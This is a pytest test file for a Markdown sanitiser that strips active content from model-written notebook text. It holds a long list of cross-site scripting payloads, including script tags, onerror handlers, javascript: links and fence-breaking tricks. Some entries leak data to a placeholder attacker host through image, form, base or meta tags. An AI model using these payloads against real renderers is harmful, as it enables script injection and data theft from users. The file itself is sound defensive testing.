"""Model text as Markdown holds nothing that acts, however a renderer reads it; what is harmless stays as it was."""

import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qfmagic.notebook.markdown import safe_markdown
from tests.html_judge import RENDERERS, html_faults, markdown_faults

CORPUS = json.loads((Path(__file__).parents[1] / "browser" / "payloads.json").read_text("ascii"))

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x>",
    "<svg/onload=alert(1)>",
    "</p><iframe srcdoc='<script>x</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php x ?>",
    "<!DOCTYPE x>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>x</script>)",
    "[x](vbscript:x)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]:\n  javascript:alert(1)",
    "![x](https://evil.example/?leak)",
    "![x][r]\n\n[r]: https://evil.example/",
    "![x]\n\n[x]: https://evil.example/",
    "\\![x](https://evil.example/)",
    "\\\\![x](https://evil.example/)",
    "[![x](https://evil.example/)](https://a.example)",
    "\\<img src=x onerror=alert(1)>",
    "\\\\<img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>",
    "`` ` <img src=x onerror=alert(1)>",
    "\\`<img src=x onerror=alert(1)>\\`",
    "```\n<img src=x onerror=alert(1)>",
    "``` a`b\n<img src=x onerror=alert(1)>\n```",
    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=1>",
    "- a\n    ```\n<img src=x onerror=alert(1)>\n    ```",
    "> ```\n<img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "<div>\n```\n</div>\n<img src=x onerror=1>\n```",
    "$$\n```\n$$\n<img src=x onerror=alert(1)>\n```",
    "<javascript:alert(1)>",
    "<https://a.example/onmouseover=alert(1)//>",
    '<https://a"onmouseover=alert(1)>',
    "<a@b.c><img src=x onerror=1>",
    "a|b\n-|-\n<img src=x onerror=1>|`|`<img src=x onerror=1>",
    '[x](https://a.example "<img src=x onerror=1>")',
    "&lt;img src=x onerror=alert(1)&gt;",
    "<\timg src=x>",
    "<a\u2028b onload=1>",
    "`a`<img src=x onerror=1>`b`",
    "``<img src=x onerror=1>`",
    "***<img src=x onerror=1>***",
    "[x]: <javascript:alert(1)>\n[x]",
    "[x]\\(javascript:alert(1))",
    '<math><mi//xlink:href="data:x,<script>1</script>">',
    "hi\r```\n\n```\n<img src=x onerror=alert(1)>\n```\n",
    "[\n```\n]: x\n<img src=x onerror=alert(1)>\n```",
    '[a]: https://a.example "\n\n```\n"\n<img src=x onerror=alert(1)>\n```',
    "<style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
]


def faults(text):
    return markdown_faults(safe_markdown(text))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around",
    [
        "{}",
        "text {} text",
        "- item {}\n- b",
        "> {}",
        "# {}",
        "{}\n\n```python\nx < 1\n```",
        "`code` {} `code`",
        "a\n\n{}\n\nb",
        "$x$ {}",
        "[{}](https://a.example)",
    ],
)
def test_payloads_come_out_dead(payload, around):
    assert faults(around.format(payload)) == []


@pytest.mark.parametrize("around", ["{}", "text {} text", "- item\n\n  {}", "> {}", "| a | b |\n|---|---|\n| {} | x |"])
def test_the_corpus_comes_out_dead(around):
    texts = [around.replace("{}", payload["text"]) for payload in CORPUS["hostile"]]
    assert {text: found for text in texts if (found := faults(text))} == {}


def test_the_judge_sees_what_is_wrong():
    assert sum(bool(html_faults(RENDERERS[0].render(payload))) for payload in PAYLOADS) > 30


@given(
    st.lists(
        st.sampled_from(
            [
                *PAYLOADS,
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\n\n",
                "    ",
                "> ",
                "- ",
                "\\",
                "[",
                "](",
                "!",
                "<",
                "a",
                "$$",
                "|",
                "<https://a.b>",
            ]
        ),
        max_size=8,
    )
)
def test_payloads_put_together_come_out_dead(parts):
    assert faults("".join(parts)) == []


@pytest.mark.parametrize(
    "text",
    [
        "**bold** and *italic*, `code` and `x < y`",
        "# 标题\n\n- 一\n- 二\n\n1. a\n2. b",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        'He said "hello" and [link](https://a.example "title")',
        "[link](https://a.example/x?y=1#z) and <https://b.example/> and [mail](mailto:a@b.c)",
        "1 < 2, a<1, x <= y, a > b, <3",
        "$a < b$ and $$\\frac{1}{2}$$",
        "a & b &amp; c",
    ],
)
def test_harmless_text_stays_as_it_was(text):
    assert safe_markdown(text) == text


def test_code_blocks_keep_every_character():
    code = "#include <stdio.h>\nif (a<b) { vector<int> x; }  // ![x](javascript:1) ~~~ `x`"
    rendered = RENDERERS[0].render(safe_markdown(f"before\n```c++\n{code}\n```\nafter"))
    assert "#include &lt;stdio.h&gt;\nif (a&lt;b) { vector&lt;int&gt; x; }  // ![x](javascript:1) ~~~ `x`" in rendered
    assert 'class="language-c++"' in rendered
    assert "<p>after</p>" in rendered


def test_a_code_span_with_a_tag_reads_as_it_was_written():
    rendered = RENDERERS[0].render(safe_markdown("use `std::vector<int> *x_y*` here"))
    assert "<code>std::vector&lt;int&gt; *x_y*</code>" in rendered


def test_an_open_fence_ends_with_the_text():
    assert safe_markdown("```python\nx = 1").rstrip().endswith("x = 1\n```")


def test_a_diagram_is_shown_as_code():
    """JupyterLab would draw it, and load the images it names; nbconvert 7.17 doesn't even escape it."""
    for info in ("mermaid", "Mermaid", "{mermaid}", "mermaid title", "mermaidx"):
        safe = safe_markdown(f"```{info}\ngraph TD\nA-->B\n```")
        assert "mermaid" not in safe.lower()
        assert "graph TD\nA-->B" in safe


@pytest.mark.parametrize("opening", ["$$", "\\\\[", "\\begin{equation}"])
def test_code_behind_an_open_formula_needs_no_fence(opening):
    """nbconvert lets a formula run on over fences: what it leaves behind must be harmless by itself."""
    closing = {"$$": "$$", "\\\\[": "\\\\]"}.get(opening, "\\end{equation}")
    safe = safe_markdown(f"{opening}\n```\n{closing}\n<img src=x onerror=alert(1)>\n```")
    assert "<img" not in safe
    assert "&lt;img src=x onerror=alert(1)&gt;" in RENDERERS[0].render(safe)


def test_a_formula_brings_no_address_or_style():
    """MathJax passes the font of \\unicode on as a style, which can name an address."""
    safe = safe_markdown("$\\unicode[x;background:url(https://a.example)]{65} + \\href{https://a.example}{y}$")
    assert "\\unicode" not in safe
    assert "\\href" not in safe
    assert safe_markdown("C:\\unicode and \\href{x}") == "C:\\unicode and \\href{x}"
    assert safe_markdown("$\\frac{1}{2} \\styles$") == "$\\frac{1}{2} \\styles$"


MATH = [
    '[see](https://x/$" onmouseover="alert(1)$)',
    'www.x.com$" onmouseover="alert(1)$',
    'https://x.example/$" onmouseover="alert(1)$',
    '[x](https://a/\\begin{a}" onmouseover="alert(1)\\end{a})',
    '[x](https://a/@@0@@) $" onmouseover="alert(1)$',
    '`$" onmouseover="alert(1)$` [x](https://a/@@0@@)',
    '<https://x/$> " onmouseover="alert(1)$',
]


@pytest.mark.parametrize("text", MATH)
def test_a_formula_can_not_end_an_attribute(text):
    """JupyterLab takes formulas out before it reads the Markdown, and puts them back without escaping quotes."""
    formula = re.compile(r"\$[^$]*\$|\\\\begin\\{.*?\\end\\{a\\}")
    safe = safe_markdown(text)
    found = formula.findall(safe)
    marked = RENDERERS[0].render(formula.sub("@@F@@", safe))
    for one in found:
        marked = marked.replace("@@F@@", one.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"), 1)
    if found:
        marked = marked.replace("@@0@@", found[0])
    assert html_faults(marked) == []


@pytest.mark.parametrize(
    ("written", "saved"),
    [
        ("$5", "$5"),
        ("$5 and $6", "<span>&#36;</span>5 and <span>&#36;</span>6"),
        (r"\$5 and \$6", "<span>&#36;</span>5 and <span>&#36;</span>6"),
        ("$a<b$ costs $5", r"$a\lt b$ costs <span>&#36;</span>5"),
        ('$$\\text{"a"} < b$$', r"$$\text{''a''} < b$$"),
        (r"so \(E = mc^2\), and", "so $E = mc^2$, and"),
        ("\\[\n\\frac{a}{b}\n\\]", r"$$\frac{a}{b}$$"),
        (r"\\(x\\) stays", r"\\(x\\) stays"),
        (r"`\(x\)` and `$x` for $4", r"`\(x\)` and `$x` for <span>&#36;</span>4"),
        ("http://a.test/$x/$y and [a](http://a.test/$1)", "http://a.test/$x/$y and [a](http://a.test/$1)"),
        ("$ 5 $ and $\n\n$", "<span>&#36;</span> 5 <span>&#36;</span> and <span>&#36;</span>\n\n<span>&#36;</span>"),
    ],
)
def test_formulas_are_formulas_and_prices_prices(written, saved):
    """JupyterLab typesets between any two dollars, but not between the brackets that models write."""
    assert safe_markdown(written) == saved
